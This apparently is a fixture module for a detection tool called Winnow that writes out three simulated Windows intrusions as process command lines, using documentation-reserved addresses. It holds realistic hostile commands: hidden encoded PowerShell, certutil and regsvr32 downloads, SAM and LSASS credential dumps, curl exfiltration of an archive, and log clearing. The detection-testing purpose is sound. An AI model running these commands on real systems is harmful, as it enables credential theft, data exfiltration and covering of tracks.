import { SESSIONS } from "../host.mjs";
import { on } from "../time.mjs";

/**
 * Three intrusions among the noise, written out: what is asked of Winnow is to show them. Every payload is a harmless
 * line of text and every address is one of those reserved for documentation.
 *
 * @typedef {import("../host.mjs").Host} Host
 */

const POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const SYSTEM32 = "C:\\Windows\\System32";

/**
 * @param {Host} host
 * @returns {string[]} the command lines, in order
 */
export function intrusions(host) {
  /** @type {string[]} */
  const commandLines = [];

  /** @param {import("../host.mjs").Process} parent @param {number} at @param {string} path @param {string} commandLine */
  function act(parent, at, path, commandLine) {
    commandLines.push(commandLine);
    return host.start(parent, { at, path, commandLine });
  }

  documentWithMacro(host, act);
  borrowedTools(host, act);
  collection(host, act);
  return commandLines;
}

/** @typedef {(parent: import("../host.mjs").Process, at: number, path: string, commandLine: string) => import("../host.mjs").Process} Act */

/** A document starts a hidden shell, which leaves an impostor of a service host and looks around. @param {Host} host @param {Act} act */
function documentWithMacro(host, act) {
  const word = host.running("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", SESSIONS.developer);
  const payload = Buffer.from('Write-Output "an exercise of the Winnow example"', "utf16le").toString("base64");
  const shell = act(word, on(0, 13, 41, 7), POWERSHELL, `powershell.exe -nop -w hidden -enc ${payload}`);
  const impostor = act(
    shell,
    on(0, 13, 41, 52),
    "C:\\Users\\dev1\\AppData\\Roaming\\Microsoft\\svchost.exe",
    '"C:\\Users\\dev1\\AppData\\Roaming\\Microsoft\\svchost.exe" -k netsvcs',
  );
  act(impostor, on(0, 13, 44, 3), `${SYSTEM32}\\whoami.exe`, "whoami /all");
  act(impostor, on(0, 13, 44, 19), `${SYSTEM32}\\net.exe`, 'net group "Domain Admins" /domain');
  act(impostor, on(0, 13, 45, 2), `${SYSTEM32}\\nltest.exe`, "nltest /domain_trusts /all_trusts");
  act(
    impostor,
    on(0, 13, 52, 30),
    `${SYSTEM32}\\schtasks.exe`,
    'schtasks /create /tn "Example Monitor Update" /tr "C:\\Users\\dev1\\AppData\\Roaming\\Microsoft\\svchost.exe" /sc hourly /f',
  );
}

/** Windows' own tools put to another use. @param {Host} host @param {Act} act */
function borrowedTools(host, act) {
  const shell = act(host.desktop, on(1, 8, 17, 44), `${SYSTEM32}\\cmd.exe`, "cmd.exe /c start /min certutil");
  act(
    shell,
    on(1, 8, 17, 46),
    `${SYSTEM32}\\certutil.exe`,
    "certutil.exe -urlcache -split -f http://203.0.113.77/u.dat C:\\Users\\Public\\u.dat",
  );
  act(
    shell,
    on(1, 8, 18, 1),
    `${SYSTEM32}\\regsvr32.exe`,
    "regsvr32.exe /s /n /u /i:http://203.0.113.77/x.sct scrobj.dll",
  );
  act(shell, on(1, 8, 18, 30), `${SYSTEM32}\\rundll32.exe`, "rundll32.exe C:\\Users\\Public\\u.dat,Start");
  act(shell, on(1, 8, 19, 12), "C:\\Windows\\Temp\\lsasss.exe", "C:\\Windows\\Temp\\lsasss.exe");
}

/** Credentials, then an archive that leaves the house. @param {Host} host @param {Act} act */
function collection(host, act) {
  const shell = host.running("C:\\Windows\\Temp\\lsasss.exe", SESSIONS.system);
  act(shell, on(1, 23, 12, 5), `${SYSTEM32}\\reg.exe`, "reg save HKLM\\SAM C:\\PerfLogs\\s.hiv");
  act(
    shell,
    on(1, 23, 13, 20),
    `${SYSTEM32}\\rundll32.exe`,
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\PerfLogs\\d.bin full",
  );
  act(
    shell,
    on(1, 23, 20, 41),
    "C:\\PerfLogs\\7z.exe",
    "C:\\PerfLogs\\7z.exe a -mhe=on -pexample -v200m C:\\PerfLogs\\out.7z C:\\Data",
  );
  act(
    shell,
    on(1, 23, 34, 9),
    `${SYSTEM32}\\curl.exe`,
    "curl.exe -s -T C:\\PerfLogs\\out.7z.001 https://198.51.100.9/in/",
  );
  act(shell, on(1, 23, 51, 33), `${SYSTEM32}\\wevtutil.exe`, "wevtutil cl Security");
}
